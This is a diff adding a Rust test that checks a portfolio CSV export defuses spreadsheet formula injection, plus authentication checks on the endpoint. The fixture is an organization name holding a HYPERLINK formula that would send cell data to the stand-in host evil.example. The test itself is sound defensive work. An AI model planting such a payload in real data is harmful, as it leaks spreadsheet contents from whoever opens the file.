@@ -129,3 +129,42 @@ async fn a_portfolio_transaction_sees_only_its_organizations_and_writes_nothing(
         assert_eq!(seen.len(), 3);
     }
 }
+
+#[tokio::test]
+async fn the_portfolio_downloads_as_a_spreadsheet_that_runs_no_formula() {
+    let (app, consultant, _) = consultant_of(2).await;
+    // An organization whose name a spreadsheet would run as a formula.
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    app.ok(
+        Some(&consultant.token),
+        "mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { organization { id } } }",
+        json!({ "i": { "name": name, "slug": "formula" } }),
+    )
+    .await;
+    let answer = app.client.get(app.url("/portfolio.csv")).bearer_auth(&consultant.token).send().await.unwrap();
+    assert_eq!(answer.status(), 200);
+    assert_eq!(answer.headers()["content-type"], "text/csv; charset=utf-8");
+    let text = answer.text().await.unwrap();
+    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
+    assert_eq!(lines.len(), 4, "{text}");
+    assert!(lines[0].starts_with("organization,organization_name,role,handoff_count,average_score,band,weakest_1"));
+    assert!(lines[0].ends_with("escalation_quality,trust_improving,both_improving"), "{}", lines[0]);
+    // The same entries as the GraphQL answer, in its order.
+    let data = app.ok(Some(&consultant.token), &portfolio_query(), json!({})).await;
+    for (line, entry) in lines[1..].iter().zip(data["me"]["portfolio"].as_array().unwrap()) {
+        let slug = entry["organization"]["slug"].as_str().unwrap();
+        let role = entry["role"].as_str().unwrap();
+        let count = entry["scorecard"]["handoffCount"].to_string();
+        assert!(line.starts_with(&format!("{slug},")), "{line}");
+        assert!(line.contains(&format!(",{role},{count},")), "{line}");
+    }
+    let formula = lines.iter().find(|l| l.starts_with("formula,")).unwrap();
+    assert!(formula.starts_with("formula,\"'=HYPERLINK("), "the name is text, not a formula: {formula}");
+
+    let anonymous = app.client.get(app.url("/portfolio.csv")).send().await.unwrap();
+    assert_eq!(anonymous.status(), 401);
+    let body: Value = anonymous.json().await.unwrap();
+    assert_eq!(body["errors"][0]["extensions"]["code"], "UNAUTHENTICATED");
+    let forged = app.client.get(app.url("/portfolio.csv")).bearer_auth("not-a-token").send().await.unwrap();
+    assert_eq!(forged.status(), 401);
+}
